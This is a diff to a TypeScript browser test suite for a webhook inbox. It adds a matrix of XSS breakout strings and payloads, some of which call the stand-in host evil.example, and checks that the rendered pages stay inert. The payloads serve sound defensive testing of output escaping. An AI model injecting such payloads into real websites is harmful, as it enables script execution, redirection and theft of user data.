@@ -3,6 +3,7 @@
 import { systemClock, type Clock } from "@webhook-inbox/core";
 import { memory } from "@webhook-inbox/core/memory";
 import { describe, expect, test } from "vitest";
+import type { Page } from "../../../tests/services/chromium.ts";
 import { barriersOf, overflowOf, picture, useBrowser } from "../../../tests/support/browser.ts";
 import { desk } from "./desk.ts";
 
@@ -136,6 +137,39 @@ describe("the overview", () => {
   });
 });
 
+/** What may end the place where a text stands, and what runs where it was ended. */
+const breakouts = [
+  "",
+  '">',
+  "'>",
+  "`>",
+  "-->",
+  "]]>",
+  "</script>",
+  "</style>",
+  "</textarea>",
+  "</title>",
+];
+const runs = [
+  "<script>alert(1)</script>",
+  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<video><source onerror=alert(1)>",
+  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
+  "<object data='data:text/html,<script>alert(1)</script>'>",
+  "<base href=https://evil.example/>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+  "<link rel=stylesheet href=https://evil.example/x.css>",
+  "<form action=https://evil.example/><button autofocus>send</button>",
+  "<a href=javascript:alert(1)>look</a>",
+];
+const payloads = breakouts.flatMap((breakout) => runs.map((run) => breakout + run));
+
 const markup = [
   "<script>alert(1)</script>",
   '"><img src=x onerror=alert(1)>',
@@ -147,6 +181,14 @@ const markup = [
   "\u202Egnp.exe\u0000\u001B[31m\uD800",
   "https://evil.example/x.png",
 ];
+
+/** Of ours there is one script, in the head; and there is nothing that senders would have put there. */
+async function isInert(page: Page): Promise<void> {
+  const foreign =
+    "img, iframe, object, embed, video, math, base, animate, details[ontoggle], input[onfocus], body style, body b b, [href^=javascript], [href^=https], [href^='//'], [action^=https], meta[content*=evil]";
+  const counts = [page.locator("script").count(), page.locator(foreign).count()];
+  expect([page.url(), ...(await Promise.all(counts))]).toEqual([page.url(), 1, 0]);
+}
 
 describe("markup of senders", () => {
   test("stands as text wherever it comes from, and runs nowhere", async () => {
@@ -168,9 +210,7 @@ describe("markup of senders", () => {
     paths.push(`/act?act=${encodeURIComponent(markup[1] ?? "")}&key=x`);
     for (const path of paths) {
       await page.goto(shop.url + path);
-      // Of ours there is one script, in the head, and no picture at all.
-      expect([path, await page.locator("script").count()]).toEqual([path, 1]);
-      expect(await page.locator("img, iframe, object, body b b").count()).toBe(0);
+      await isInert(page);
       const text = (await page.locator("body").textContent()) ?? "";
       // oxlint-disable-next-line no-control-regex -- control characters are what must not be there
       expect(text).not.toMatch(/[\u0000\u001B\u202E]/);
@@ -178,6 +218,34 @@ describe("markup of senders", () => {
     const only = (text: string): boolean => !/status of 40\d/.test(text);
     expect(seen.filter(only)).toEqual([]);
   });
+
+  test(
+    "of every kind is text, in lists and on pages of its own",
+    { timeout: 120_000 },
+    async () => {
+      const shop = await desk({ store: volatile() });
+      for (const text of payloads)
+        await shop.post("shop/t", { id: text, type: text, [text]: text });
+      await shop.inbox.idle();
+      const { page, seen } = await open();
+      const keys: string[] = [];
+      let cursor: string | undefined = "";
+      while (cursor !== undefined) {
+        const { events, cursor: next } = await shop.inbox.list({ cursor: cursor || undefined });
+        keys.push(...events.map(({ key }) => key));
+        const query = cursor === "" ? "" : `?cursor=${encodeURIComponent(cursor)}`;
+        await page.goto(`${shop.url}/events${query}`);
+        await isInert(page);
+        cursor = next;
+      }
+      expect(keys.length).toBe(payloads.length);
+      for (const key of keys) {
+        await page.goto(`${shop.url}/events/${key}`);
+        await isInert(page);
+      }
+      expect(seen).toEqual([]);
+    },
+  );
 
   test("in a body that is downloaded stays a file", async () => {
     const shop = await desk({ store: volatile() });
